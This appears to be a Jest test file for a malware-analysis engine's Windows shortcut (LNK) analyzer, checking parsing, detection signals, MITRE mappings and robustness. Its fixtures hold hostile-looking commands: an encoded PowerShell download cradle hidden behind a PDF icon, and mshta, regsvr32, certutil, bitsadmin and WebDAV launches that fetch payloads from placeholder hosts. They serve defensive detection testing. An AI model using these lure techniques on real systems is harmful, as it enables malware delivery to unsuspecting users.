import { parseLnk } from '../formats/lnk/lnk-file';
import { identify } from '../identify/identify';
import { AnalysisPipeline } from '../pipeline';
import { SIGNAL_BY_ID } from '../signals/catalogue';
import { scoreFile } from '../signals/scoring';
import { testEngineOptions } from '../testing/engine-options';
import { fileContext } from '../testing/file-context';
import { buildLnk, uuidV1 } from '../testing/lnk-writer';
import { buildZip, seededBytes } from '../testing/samples';
import { AnalyzerResult, IocType, Verdict } from '../types';
import { defaultAnalyzers } from './index';
import { LnkAnalyzer } from './lnk.analyzer';

const analyzer = new LnkAnalyzer();
const analyze = (data: Uint8Array, name = 'shortcut.lnk') => analyzer.analyze(fileContext(data, name));
const ids = (r: AnalyzerResult) => (r.signals ?? []).map((s) => s.id).sort();
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const lnk = (r: AnalyzerResult) => r.facts!.lnk as any;
const pipeline = new AnalysisPipeline(defaultAnalyzers());

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** Documentation addresses (198.51.100.0/24 ...) are whitelisted by the IOC extractor: the lure uses a made-up domain. */
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.invoice-lure.top/stage2.ps1')";
const encodedCradle = Buffer.from(CRADLE, 'utf16le').toString('base64');

describe('LnkAnalyzer', () => {
  it('a shortcut to notepad: parsed in full, no signal, NO_THREAT through the pipeline', async () => {
    const when = new Date(Date.UTC(2024, 2, 1, 8, 0, 0));
    const data = buildLnk({
      target: 'C:\\Windows\\System32\\notepad.exe',
      name: 'Edit the meeting notes',
      workingDirectory: '%HOMEDRIVE%%HOMEPATH%',
      relativePath: '..\\..\\..\\Windows\\System32\\notepad.exe',
      iconLocation: '%windir%\\system32\\notepad.exe',
      tracker: { machineId: 'desktop-7h2k9q', droid: uuidV1('00:0c:29:3a:4b:5c', when) },
      knownFolder: '1ac14e77-02e7-4e5d-b744-2eb1ae5198b7',
      hotKey: 0x0654, // Ctrl+Alt+T
      writeTime: when,
    });
    expect(identify(data).kind).toBe('lnk');
    const result = await analyze(data, 'Notepad.lnk');
    const facts = lnk(result);
    expect(facts).toMatchObject({
      target: 'C:\\Windows\\System32\\notepad.exe',
      idListPath: 'C:\\Windows\\System32\\notepad.exe',
      program: 'notepad.exe',
      name: 'Edit the meeting notes',
      workingDirectory: '%HOMEDRIVE%%HOMEPATH%',
      iconLocation: '%windir%\\system32\\notepad.exe',
      showCommand: 'normal',
      hotKey: 'Ctrl+Alt+T',
      writeTime: '2024-03-01T08:00:00.000Z',
      fileSize: 1234,
      linkInfo: { driveType: 'fixed', driveSerialNumber: '0x1234abcd', localBasePath: 'C:\\Windows\\System32\\notepad.exe' },
    });
    expect(facts.flags).toEqual(expect.arrayContaining(['HasLinkTargetIDList', 'HasLinkInfo', 'HasName', 'HasIconLocation', 'IsUnicode']));
    expect(facts.idList.map((i: { type: string }) => i.type)).toEqual(['root', 'volume', 'folder', 'folder', 'file']);
    expect(facts.idList[0]).toMatchObject({ name: 'My Computer', clsid: '20d04fe0-3aea-1069-a2d8-08002b30309d' });
    expect(facts.extra.tracker).toMatchObject({ machineId: 'desktop-7h2k9q', macAddress: '00:0c:29:3a:4b:5c', droidTime: '2024-03-01T08:00:00.000Z' });
    expect(facts.extra.knownFolder).toEqual({ id: '1ac14e77-02e7-4e5d-b744-2eb1ae5198b7', name: 'System' });
    expect(result.signals).toEqual([]);
    expect(result.iocs).toEqual([]);
    expect(result.issues).toEqual([]);

    const flow = await pipeline.analyze({ name: 'Notepad.lnk', data }, testEngineOptions());
    expect(flow.verdict.verdict).toBe(Verdict.NoThreat);
    expect(flow.files[0].analyzers).toContain('lnk');
  });

  it('a shortcut to cmd.exe without arguments (a Command Prompt shortcut) raises nothing', async () => {
    expect((await analyze(buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', iconLocation: '%windir%\\system32\\cmd.exe' }))).signals).toEqual([]);
  });

  it('powershell -w hidden -enc ... behind a PDF icon: interpreter, encoding, hidden window, masquerade, URL', async () => {
    const data = buildLnk({
      target: POWERSHELL,
      arguments: `-NoP -NonI -W Hidden -Enc ${encodedCradle}`,
      iconLocation: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      iconIndex: 11,
      showCommand: 7,
      name: 'Invoice 2024-113.pdf',
    });
    const result = await analyze(data, 'Invoice 2024-113.pdf.lnk');
    expect(ids(result)).toEqual(['lnk.hidden_window', 'lnk.icon_masquerade', 'lnk.obfuscated_arguments', 'lnk.remote_payload', 'lnk.target.powershell']);
    expect(lnk(result).decodedCommand).toBe(CRADLE);
    const mitre = (id: string) => SIGNAL_BY_ID.get(id)!.mitre;
    expect(mitre('lnk.target.powershell')).toContain('T1059.001');
    expect(mitre('lnk.obfuscated_arguments')).toContain('T1027.010');
    expect(mitre('lnk.hidden_window')).toContain('T1564.003');
    expect(mitre('lnk.icon_masquerade')).toContain('T1036');
    expect(result.signals!.find((s) => s.id === 'lnk.icon_masquerade')!.evidence).toEqual([
      'runs powershell.exe with arguments but shows the icon C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11',
    ]);
    expect(result.iocs).toEqual(expect.arrayContaining([{ type: IocType.Url, value: 'http://cdn.invoice-lure.top/stage2.ps1', origin: 'lnk' }]));
    expect(scoreFile(result.signals!, [], true).verdict).toBe(Verdict.LikelyMalicious);

    const flow = await pipeline.analyze({ name: 'Invoice 2024-113.pdf.lnk', data }, testEngineOptions());
    expect([Verdict.LikelyMalicious, Verdict.Malicious]).toContain(flow.verdict.verdict);
  });

  it.each([
    ['C:\\Windows\\System32\\cmd.exe', '/c start "" /min mshta http://203.0.113.9/p.hta', 'lnk.target.cmd', 'T1059.003'],
    ['C:\\Windows\\System32\\mshta.exe', 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', 'lnk.target.mshta', 'T1218.005'],
    ['C:\\Windows\\System32\\rundll32.exe', '\\\\198.51.100.20@SSL\\DavWWWRoot\\x.dll,DllRegisterServer', 'lnk.target.rundll32', 'T1218.011'],
    ['C:\\Windows\\System32\\regsvr32.exe', '/s /n /u /i:http://203.0.113.5/file.sct scrobj.dll', 'lnk.target.regsvr32', 'T1218.010'],
    ['C:\\Windows\\System32\\wscript.exe', '//B //E:jscript "%TEMP%\\update.log"', 'lnk.target.script_host', 'T1059.007'],
    ['C:\\Windows\\System32\\msiexec.exe', '/q /i http://203.0.113.7/setup.msi', 'lnk.target.msiexec', 'T1218.007'],
    ['C:\\Windows\\System32\\certutil.exe', '-urlcache -split -f http://203.0.113.8/a.b %TEMP%\\a.exe', 'lnk.target.certutil', 'T1105'],
    ['C:\\Windows\\System32\\bitsadmin.exe', '/transfer j http://203.0.113.8/a.exe %TEMP%\\a.exe', 'lnk.target.bitsadmin', 'T1197'],
    ['C:\\Windows\\System32\\curl.exe', '-o %TEMP%\\a.exe http://203.0.113.8/a.exe', 'lnk.target.downloader', 'T1105'],
    ['C:\\Windows\\System32\\forfiles.exe', '/p c:\\windows\\system32 /m notepad.exe /c calc.exe', 'lnk.target.lolbin', 'T1218'],
  ])('%s with arguments raises its signal', async (target, args, signal, technique) => {
    const result = await analyze(buildLnk({ target, arguments: args }));
    expect(ids(result)).toContain(signal);
    expect(SIGNAL_BY_ID.get(signal)!.mitre).toContain(technique);
    expect(scoreFile(result.signals!, [], true).verdict).not.toBe(Verdict.NoThreat);
  });

  it('cmd obfuscation, padding beyond the visible 260 characters, and a WebDAV share', async () => {
    const args = `${' '.repeat(300)}/c p^o^w^e^r^s^h^e^l^l -c "%COMSPEC:~0,1%" \\\\203.0.113.44@SSL\\DavWWWRoot\\run.bat`;
    const result = await analyze(buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: args }));
    const evidence = result.signals!.find((s) => s.id === 'lnk.obfuscated_arguments')!.evidence;
    expect(evidence).toEqual(
      expect.arrayContaining([expect.stringMatching(/^arguments are \d+ characters long/), expect.stringMatching(/^arguments padded with 300/), 'cmd caret escapes', 'cmd variable substrings (%VAR:~n,m%)']),
    );
    expect(result.signals!.find((s) => s.id === 'lnk.remote_payload')!.evidence).toEqual(['share \\\\203.0.113.44@SSL\\DavWWWRoot\\run.bat']);
    expect(lnk(result).argumentsLength).toBe(args.length);
    expect(lnk(result).arguments).toBe(args);
  });

  it('the target from the environment-variables block when there is no LinkInfo', async () => {
    const result = await analyze(buildLnk({ environmentTarget: '%windir%\\system32\\cmd.exe', arguments: '/c echo hi > %TEMP%\\x.txt' }));
    expect(lnk(result)).toMatchObject({ target: '%windir%\\system32\\cmd.exe', program: 'cmd.exe' });
    expect(ids(result)).toEqual(['lnk.target.cmd']);
  });

  it('a target on a WebDAV share, and an icon from a remote share (forced authentication)', async () => {
    const result = await analyze(buildLnk({ networkTarget: { share: '\\\\files.invoice-lure.top@SSL\\DavWWWRoot', suffix: 'report.exe' }, iconLocation: '\\\\files.invoice-lure.top\\icons\\pdf.ico' }));
    expect(lnk(result).target).toBe('\\\\files.invoice-lure.top@SSL\\DavWWWRoot\\report.exe');
    expect(ids(result)).toEqual(['lnk.icon_masquerade', 'lnk.network_target', 'lnk.remote_payload']);
    expect(result.signals!.find((s) => s.id === 'lnk.remote_payload')!.mitre).toEqual(['T1187']);
    expect(result.iocs!.map((i) => `${i.type}:${i.value}`)).toContain('domain:files.invoice-lure.top');
  });

  it('data appended after the shortcut is extracted', async () => {
    const zip = buildZip([{ name: 'payload.vbs', data: 'WScript.Echo "x"' }]);
    const result = await analyze(buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c findstr /b "PK" %0 > a.zip', appended: zip }));
    expect(ids(result)).toEqual(['lnk.appended_data', 'lnk.target.cmd']);
    expect(result.children).toHaveLength(1);
    expect(result.children![0]).toMatchObject({ relation: 'lnk-appended' });
    expect(Buffer.from(result.children![0].data).equals(Buffer.from(zip))).toBe(true);
    expect(lnk(result).appendedData).toMatchObject({ size: zip.length, type: 'Zip archive' });
  });

  it('truncated and corrupted shortcuts never throw', async () => {
    const base = buildLnk({ target: POWERSHELL, arguments: `-enc ${encodedCradle}`, iconLocation: 'x.pdf', tracker: { machineId: 'pc' }, knownFolder: '1ac14e77-02e7-4e5d-b744-2eb1ae5198b7' });
    const noise = seededBytes(2048, 9);
    for (let n = 0; n < 400; n++) {
      const data = base.slice(0, n < 200 ? Math.max(0x4c, Math.floor((base.length * n) / 200)) : base.length);
      for (let k = 0; n >= 200 && k < 6; k++) data[0x4c + ((noise[(n * 6 + k) % noise.length] * 7) % (data.length - 0x4c))] = noise[(n + k * 13) % noise.length];
      const result = await analyze(data);
      expect(result.facts?.lnk).toBeDefined();
    }
    const truncated = await analyze(base.slice(0, 200));
    expect(ids(truncated)).toContain('lnk.malformed');
    expect(() => parseLnk(new Uint8Array(10))).toThrow('not a shell link');
  });
});
